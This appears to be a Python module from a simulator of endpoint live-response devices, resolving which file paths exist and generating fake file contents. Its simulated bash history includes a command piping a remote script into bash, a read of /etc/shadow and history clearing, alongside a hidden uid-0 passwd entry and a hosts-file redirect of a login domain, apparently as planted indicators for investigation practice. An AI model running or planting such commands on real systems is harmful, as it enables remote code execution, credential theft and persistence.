"""Files on simulated devices: which paths GetFile finds, their contents, and the streamed bench files.

GetFile rule (see :func:`resolve_file`): a path exists when it is a known system file of the device's
OS family, a file a script or PutFile created on that device, a bench file (``C:\\bench\\<N>MiB.bin``,
``/bench/<N>GiB.bin``...), or any other file path under the usual roots (Windows: ``C:\\Users``,
``C:\\Windows``, ``C:\\ProgramData``, ``C:\\Program Files*``, ``C:\\Temp``, ``C:\\inetpub``; POSIX:
``/etc /var /home /Users /tmp /opt /Library /usr /root``) whose name has an extension (POSIX: or sits in
``/etc`` or ``/var/log``) -- except archives and dumps (``.zip .7z .rar .dmp .gz .tgz .tar .cab``),
which exist only once something created them. Any path with a component named ``missing`` (or
``nonexistent``) never exists. Paths of the wrong style for the OS never exist.
"""

from __future__ import annotations

import gzip
import hashlib
import io
import random
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from .script_output import ESC, _rng
from .tenant import MachineRec

__all__ = [
    "BENCH_BLOCK",
    "DOWNLOADS_DIR_POSIX",
    "DOWNLOADS_DIR_WIN",
    "FileRecipe",
    "bench_stream",
    "file_bytes",
    "gzip_stream",
    "resolve_file",
]

DOWNLOADS_DIR_WIN = "C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat Protection\\Downloads\\"
DOWNLOADS_DIR_POSIX = "/var/opt/microsoft/mdatp/live_response/downloads/"


_ARCHIVE_EXT = (".zip", ".7z", ".rar", ".dmp", ".gz", ".tgz", ".tar", ".cab")
_WIN_ROOTS = (
    "c:\\users\\",
    "c:\\windows\\",
    "c:\\programdata\\",
    "c:\\program files\\",
    "c:\\program files (x86)\\",
    "c:\\temp\\",
    "c:\\inetpub\\",
)
_NIX_ROOTS = ("/etc/", "/var/", "/home/", "/users/", "/tmp/", "/opt/", "/library/", "/usr/", "/root/", "/private/")
_LOCKED = {
    "c:\\windows\\system32\\config\\sam",
    "c:\\windows\\system32\\config\\system",
    "c:\\windows\\system32\\config\\security",
    "c:\\pagefile.sys",
    "c:\\hiberfil.sys",
}
_BENCH = re.compile(r"^(?:[a-z]:\\bench\\|/bench/)(\d+)(b|kib|mib|gib)\.bin$", re.I)
_KNOWN_WIN = {
    "c:\\windows\\system32\\drivers\\etc\\hosts": "hosts",
    "c:\\windows\\system32\\winevt\\logs\\security.evtx": "evtx",
    "c:\\windows\\system32\\winevt\\logs\\system.evtx": "evtx",
    "c:\\windows\\system32\\winevt\\logs\\microsoft-windows-powershell%4operational.evtx": "evtx",
    "c:\\windows\\system32\\notepad.exe": "pe",
    "c:\\windows\\system32\\cmd.exe": "pe",
    "c:\\windows\\temp\\mpcmdrun.log": "log",
    "c:\\windows\\appcompat\\programs\\amcache.hve": "bin",
}
_KNOWN_NIX = {
    "/etc/passwd": "passwd",
    "/etc/hosts": "etchosts",
    "/var/log/auth.log": "log",
    "/var/log/syslog": "log",
    "/etc/os-release": "osrelease",
    "/root/.bash_history": "history",
    "/var/log/system.log": "log",
}


@dataclass(frozen=True)
class FileRecipe:
    kind: str
    size: int  # uncompressed size in bytes
    machine_id: str
    path: str
    data: bytes | None = None  # literal content (files put by PutFile)


def _is_windows_path(p: str) -> bool:
    return bool(re.match(r"^[A-Za-z]:\\", p)) or p.startswith("\\\\")


def _size_for(kind: str, key: str) -> int:
    h = int(hashlib.sha1(key.encode()).hexdigest()[:8], 16)
    return {
        "hosts": 824,
        "passwd": 1900,
        "etchosts": 220,
        "osrelease": 380,
        "history": 2400 + h % 4000,
        "evtx": 1_048_576 * (1 + h % 4),
        "pe": 180_000 + h % 400_000,
        "bin": 262_144 + h % 1_000_000,
        "log": 20_000 + h % 200_000,
        "text": 1_000 + h % 60_000,
        "dmp": 8 * 1_048_576,
        "triage": 0,
        "generic": 2_000 + h % 20_000,
    }.get(kind, 4096)


def resolve_file(m: MachineRec, path: str) -> FileRecipe | str:
    """The recipe of ``path`` on device ``m``, or an error message (the command fails with it)."""
    win = m.family == "windows"
    if win != _is_windows_path(path) and not _BENCH.match(path):
        return f"The system cannot find the path specified: {path}"
    key = path.lower() if win else path
    parts = re.split(r"[\\/]+", key.lower())
    if any(p in ("missing", "nonexistent") for p in parts):
        return f"File not found: {path}"
    b = _BENCH.match(path)
    if b:
        mult = {"b": 1, "kib": 1024, "mib": 1024**2, "gib": 1024**3}[b.group(2).lower()]
        return FileRecipe("bench", int(b.group(1)) * mult, m.id, key)
    for p, recipe in m.created_files.items():
        if (p.lower() if win else p) == key:
            kind = recipe[0]
            if kind == "libfile":
                return FileRecipe(kind, len(recipe[1]), m.id, key, data=recipe[1])
            size = _size_for(kind, m.id + key)
            return FileRecipe(kind, size, m.id, key)
    if path.endswith(("\\", "/")) or key in (
        "c:\\windows",
        "c:\\users",
        "c:\\temp",
        "/etc",
        "/var/log",
        "/tmp",
        "/home",
    ):
        return f"The path is a directory, not a file: {path}"
    if win and key in _LOCKED:
        return f"The process cannot access the file '{path}' because it is being used by another process."
    known = _KNOWN_WIN if win else _KNOWN_NIX
    if key in known:
        kind = known[key]
        return FileRecipe(kind, _size_for(kind, m.id + key), m.id, key)
    name = parts[-1] if parts else ""
    if name.endswith(_ARCHIVE_EXT):
        return f"File not found: {path}"
    roots = _WIN_ROOTS if win else _NIX_ROOTS
    low = key.lower()
    if not any(low.startswith(r) for r in roots):
        return f"File not found: {path}"
    has_ext = "." in name.strip(".")
    if not has_ext and not (not win and (low.startswith("/etc/") or low.startswith("/var/log/"))):
        return f"File not found: {path}"
    ext = name.rsplit(".", 1)[-1] if has_ext else ""
    kind = {
        "exe": "pe",
        "dll": "pe",
        "sys": "pe",
        "evtx": "evtx",
        "log": "log",
        "etl": "bin",
        "dat": "bin",
        "hve": "bin",
        "pf": "bin",
        "db": "bin",
    }.get(ext, "text")
    return FileRecipe(kind, _size_for(kind, m.id + key), m.id, key)


def file_bytes(r: FileRecipe, m: MachineRec | None = None) -> bytes:
    """The uncompressed content of a (non-bench) file, deterministic per machine and path."""
    if r.data is not None:
        return r.data
    rng = _rng("file", r.machine_id, r.path)
    host = m.name.split(".")[0] if m else r.machine_id[:8]
    if r.kind == "hosts":
        return (
            b"# Copyright (c) 1993-2009 Microsoft Corp.\r\n#\r\n# This is a sample HOSTS file used by Microsoft TCP/IP for Windows.\r\n"
            b"#\r\n"
            + b"#      102.54.94.97     rhino.acme.com          # source server\r\n" * 10
            + b"127.0.0.1       localhost\r\n::1             localhost\r\n10.66.6.6       login.microsoftonline.com  # ???\r\n"
        )
    if r.kind == "passwd":
        users = [
            "root:x:0:0:root:/root:/bin/bash",
            "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin",
            "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin",
            "sshd:x:110:65534::/run/sshd:/usr/sbin/nologin",
            "alice:x:1000:1000:Alice,,,:/home/alice:/bin/bash",
            "backup2:x:0:0::/tmp/.b:/bin/sh",
        ]
        return ("\n".join(users * 5) + "\n").encode()
    if r.kind == "etchosts":
        return f"127.0.0.1 localhost\n127.0.1.1 {host}\n::1 localhost ip6-localhost\n".encode()
    if r.kind == "osrelease":
        return b'PRETTY_NAME="Ubuntu 22.04.4 LTS"\nNAME="Ubuntu"\nVERSION_ID="22.04"\nID=ubuntu\n'
    if r.kind == "history":
        cmds = [
            "ls -la",
            "sudo su -",
            "curl -s http://198.51.100.9/x.sh | bash",
            "history -c",
            "cat /etc/shadow",
            f"echo -e '{ESC}[31mred{ESC}[0m'",
            "vim /etc/crontab",
            "systemctl restart nginx",
        ]
        return ("\n".join(rng.choice(cmds) for _ in range(r.size // 16)) + "\n").encode()
    if r.kind == "triage":
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
            for n in [
                "EventLogs/Security.evtx.txt",
                "Prefetch/list.txt",
                "Network/netstat.txt",
                "Users/logons.csv",
                "manifest.json",
            ]:
                zi = zipfile.ZipInfo(n, date_time=(2024, 6, 2, 8, 0, 0))
                z.writestr(
                    zi,
                    (f"{n} from {host}\n" + "".join(f"{rng.getrandbits(64):016x}\n" for _ in range(3000))).encode(),
                    compress_type=zipfile.ZIP_DEFLATED,
                )
        return buf.getvalue()
    if r.kind in ("text", "log", "generic"):
        lines = []
        size = 0
        i = 0
        while size < r.size:
            line = f"2024-06-02T{(i // 3600) % 24:02d}:{(i // 60) % 60:02d}:{i % 60:02d}Z {host} {r.path.rsplit(chr(92), 1)[-1]} line {i} value={rng.getrandbits(40):010x}\n"
            lines.append(line)
            size += len(line)
            i += 1
        return "".join(lines).encode()[: r.size]
    header = {
        "pe": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00",
        "evtx": b"ElfFile\x00",
        "dmp": b"MDMP\x93\xa7\x00\x00",
        "bin": b"regf",
    }.get(r.kind, b"")
    body = rng.randbytes(min(r.size, 65536))
    # repeat one random block: cheap, deterministic, and gzip still has work to do
    reps = (r.size - len(header)) // len(body) + 1 if body else 0
    return (header + body * reps)[: r.size]


BENCH_BLOCK = 1024 * 1024
_BENCH_CACHE: dict[str, bytes] = {}


def _bench_member(machine_id: str) -> bytes:
    member = _BENCH_CACHE.get(machine_id)
    if member is None:
        raw = random.Random(hashlib.sha256(f"bench|{machine_id}".encode()).digest()).randbytes(BENCH_BLOCK)
        member = gzip.compress(raw, compresslevel=1, mtime=0)
        if len(_BENCH_CACHE) > 16:
            _BENCH_CACHE.clear()
        _BENCH_CACHE[machine_id] = member
    return member


def bench_stream(r: FileRecipe) -> tuple[int, Callable[[], Iterator[bytes]]]:
    """(compressed length, chunk iterator factory) for a bench file: concatenated gzip members, each the
    same 1 MiB of random data (the last one shorter), never all in memory."""
    full, rest = divmod(r.size, BENCH_BLOCK)
    member = _bench_member(r.machine_id)
    tail = b""
    if rest:
        raw = random.Random(hashlib.sha256(f"bench|{r.machine_id}".encode()).digest()).randbytes(BENCH_BLOCK)[:rest]
        tail = gzip.compress(raw, compresslevel=1, mtime=0)
    if r.size == 0:
        tail = gzip.compress(b"", mtime=0)
    length = full * len(member) + len(tail)

    def chunks() -> Iterator[bytes]:
        for _ in range(full):
            yield member
        if tail:
            yield tail

    return length, chunks


def gzip_stream(data: bytes) -> bytes:
    return gzip.compress(data, compresslevel=6, mtime=0)
